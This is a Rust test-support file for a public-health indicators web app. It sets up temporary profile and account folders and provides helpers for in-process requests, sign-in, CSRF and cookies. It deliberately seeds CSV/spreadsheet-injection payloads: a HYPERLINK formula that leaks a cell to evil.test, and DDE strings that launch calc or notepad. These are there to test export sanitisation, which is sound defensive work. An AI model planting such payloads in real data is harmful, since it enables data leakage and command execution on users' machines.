//! A small profiles folder written by hand (public and analyst releases, with hostile names in
//! it), an accounts folder with one analyst, the app built in-process from them, and helpers to
//! send it requests without a network (`tower::ServiceExt::oneshot`).
#![allow(dead_code)]

use std::net::SocketAddr;
use std::path::Path;
use std::sync::Arc;

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{HeaderMap, Request, StatusCode, header};
use phm_profiles::{ProfileRow, TrendRow};
use phm_web::App;
use serde_json::json;
use tower::ServiceExt as _;

pub const ICS: &str = "E54000024";
pub const PLACE: &str = "E06000055";
/// The place's name: a formula that would open a link if a spreadsheet evaluated it.
pub const HOSTILE_AREA: &str = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Bedford\")";
/// Indicator titles that spreadsheets read as formulas (DDE, `@`, `+`, `-`, tab).
pub const HOSTILE_TITLES: [&str; 4] =
    ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"];
pub const INDICATORS: [&str; 4] = ["smoking", "obesity", "flu", "mmr"];
/// The ICS's slope index of inequality on each `all` row: a negative number.
pub const NEGATIVE_SII: f64 = -2.5;
pub const USER: &str = "alice";
pub const PASSWORD: &str = "correct horse battery";

/// The profiles and accounts folders, kept for the test's life.
pub struct Fixture {
    pub dir: tempfile::TempDir,
}

impl Fixture {
    pub fn profiles(&self) -> std::path::PathBuf {
        self.dir.path().join("profiles")
    }
    pub fn accounts(&self) -> std::path::PathBuf {
        self.dir.path().join("accounts")
    }
}

fn row(indicator: &str, title: &str, area_type: &str, code: &str, name: &str, numerator: u64) -> ProfileRow {
    let parent = if area_type == "ics" { serde_json::Value::Null } else { json!(ICS) };
    serde_json::from_value(json!({
        "indicator": indicator, "title": title, "method": "proportion", "multiplier": 100.0, "polarity": "lower_is_better",
        "period": "2026-03-31", "area_type": area_type, "area_code": code, "area_name": name, "parent_code": parent,
        "breakdown": "all", "category": "all", "numerator": numerator, "denominator": 1000,
        "value": numerator as f64 / 10.0, "sii": NEGATIVE_SII, "disclosure": "published",
        "definition": "definitions/not-there.phm", "definition_sha256": "0".repeat(64),
    }))
    .expect("a profile row")
}

fn trend(indicator: &str, title: &str, period: &str, numerator: u64) -> TrendRow {
    serde_json::from_value(json!({
        "indicator": indicator, "title": title, "method": "proportion", "polarity": "lower_is_better", "period": period,
        "area_type": "place", "area_code": PLACE, "area_name": HOSTILE_AREA, "numerator": numerator, "denominator": 1000,
        "value": numerator as f64 / 10.0, "disclosure": "published", "assurance_icon": "no_target",
    }))
    .expect("a trend row")
}

fn write_csv<T: serde::Serialize>(path: &Path, rows: &[T]) {
    let mut w = csv::Writer::from_path(path).expect("create");
    for r in rows {
        w.serialize(r).expect("row");
    }
    w.flush().expect("flush");
}

fn write_release(dir: &Path, policy: &str, numerator: u64) {
    std::fs::create_dir_all(dir).expect("mkdir");
    let mut rows = Vec::new();
    let mut trends = Vec::new();
    for (name, title) in INDICATORS.iter().zip(HOSTILE_TITLES) {
        rows.push(row(name, title, "ics", ICS, "Bedfordshire, Luton and Milton Keynes", numerator));
        rows.push(row(name, title, "place", PLACE, HOSTILE_AREA, numerator));
        for (i, period) in ["2025-12-31", "2026-01-31", "2026-02-28", "2026-03-31"].iter().enumerate() {
            trends.push(trend(name, title, period, numerator + 5 * i as u64));
        }
    }
    write_csv(&dir.join("profiles.csv"), &rows);
    write_csv(&dir.join("trends.csv"), &trends);
    // The release's manifest (phm_release::Manifest), as `phm profiles` writes it.
    let manifest = json!({
        "format": 1, "command": "profiles", "policy": policy, "policy_summary": "test", "store": null,
        "snapshot": 1, "engine": "datafusion", "engine_passes": 1, "cells": 0,
        "indicators": INDICATORS.iter().map(|n| json!({
            "name": n, "title": n, "method": "proportion", "multiplier": 100.0, "polarity": "lower_is_better",
            "rationale": "Why it matters.", "caveats": null, "fingertips": null, "breakdowns": ["imd_quintile"],
            "definition": "definitions/not-there.phm", "definition_sha256": "0".repeat(64),
            "source": format!("indicator {n} \"{n}\" {{\n}}"), "index_date": "2026-03-31",
        })).collect::<Vec<_>>(),
        "outputs": {"profiles": rows.len(), "trends": trends.len()}, "version": "test",
    });
    std::fs::write(dir.join("provenance.json"), manifest.to_string()).expect("provenance");
    let framework = json!({
        "framework": {"id": "test", "title": "Test", "organisation": "Test ICB", "area": ICS, "definitions": "definitions", "source": "tests"},
        "priority": [{"id": "p1", "kind": "priority", "title": "Priority", "description": "Everything.",
                      "indicators": INDICATORS.iter().map(|n| json!({"name": n})).collect::<Vec<_>>()}],
    });
    std::fs::write(dir.join("framework.json"), framework.to_string()).expect("framework");
}

/// The folders: a public release (counts on the grid of 5) and an analyst one, and an
/// analyst account.
pub fn fixture() -> Fixture {
    let dir = tempfile::tempdir().expect("temp dir");
    write_release(&dir.path().join("profiles/public"), "public", 100);
    write_release(&dir.path().join("profiles/analyst"), "analyst", 101);
    let users = phm_accounts::Users::open(dir.path().join("accounts/users.json")).expect("users");
    users.add(USER, phm_accounts::Role::Analyst, None, PASSWORD).expect("add alice");
    Fixture { dir }
}

/// The app on the fixture, with secure cookies or not.
pub fn app(fixture: &Fixture, secure: bool) -> Arc<App> {
    let policies = phm_disclosure::PolicySet::builtin().expect("policies");
    let catalogue = phm_web::Catalogue::load(&fixture.profiles(), &policies, None).expect("the fixture loads");
    let auth = phm_web::auth::Auth::open(&fixture.accounts(), secure).expect("accounts");
    App::new(catalogue, phm_web::assets::Assets::embedded().expect("assets"), auth, None).expect("app")
}

/// A response, read whole.
pub struct Reply {
    pub status: StatusCode,
    pub headers: HeaderMap,
    pub body: Vec<u8>,
}

impl Reply {
    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(name).and_then(|v| v.to_str().ok())
    }
    /// The value of the cookie `name` this response sets.
    pub fn cookie(&self, name: &str) -> Option<String> {
        self.headers
            .get_all(header::SET_COOKIE)
            .iter()
            .filter_map(|v| v.to_str().ok())
            .find_map(|c| c.split(';').next()?.strip_prefix(&format!("{name}=")).map(str::to_owned))
    }
}

/// The client's address every request comes from, unless a test says otherwise.
pub fn client() -> SocketAddr {
    "192.0.2.10:50000".parse().expect("address")
}

/// Sends one request through the router.
pub async fn send(app: &Arc<App>, method: &str, uri: &str, cookie: Option<&str>, form: Option<&str>) -> Reply {
    send_from(app, client(), method, uri, cookie, form).await
}

/// Sends one request from `from`.
pub async fn send_from(
    app: &Arc<App>,
    from: SocketAddr,
    method: &str,
    uri: &str,
    cookie: Option<&str>,
    form: Option<&str>,
) -> Reply {
    let mut request = Request::builder().method(method).uri(uri);
    if let Some(c) = cookie {
        request = request.header(header::COOKIE, c);
    }
    if form.is_some() {
        request = request.header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
    }
    let mut request = request.body(Body::from(form.unwrap_or_default().to_owned())).expect("a request");
    request.extensions_mut().insert(ConnectInfo(from));
    let response = phm_web::router(app.clone()).oneshot(request).await.expect("the router answers");
    let (parts, body) = response.into_parts();
    let body = axum::body::to_bytes(body, usize::MAX).await.expect("a body").to_vec();
    Reply { status: parts.status, headers: parts.headers, body }
}

/// `application/x-www-form-urlencoded` / query encoding of a value: every byte but
/// unreserved ones as `%XX`.
pub fn encode(value: &str) -> String {
    value
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// The sign-in form's cookie and CSRF field.
pub async fn sign_in_form(app: &Arc<App>) -> (String, String) {
    let page = send(app, "GET", "/sign-in", None, None).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text());
    let cookie = page.cookie("phm_sign_in").expect("the form's cookie");
    let text = page.text();
    let field = text
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .and_then(|r| r.split('"').next())
        .expect("the form's csrf field")
        .to_owned();
    (format!("phm_sign_in={cookie}"), field)
}

/// Posts the sign-in form with `next` (raw, encoded here) from `from`.
pub async fn post_sign_in(app: &Arc<App>, from: SocketAddr, username: &str, password: &str, next: &str) -> Reply {
    let (cookie, csrf) = sign_in_form(app).await;
    let form = format!(
        "csrf={}&next={}&username={}&password={}",
        encode(&csrf),
        encode(next),
        encode(username),
        encode(password)
    );
    send_from(app, from, "POST", "/sign-in", Some(&cookie), Some(&form)).await
}

/// Signs the analyst in; returns the `Cookie` header value of the session.
pub async fn session(app: &Arc<App>) -> String {
    let reply = post_sign_in(app, client(), USER, PASSWORD, "/").await;
    assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.text());
    format!("phm_session={}", reply.cookie("phm_session").expect("a session cookie"))
}
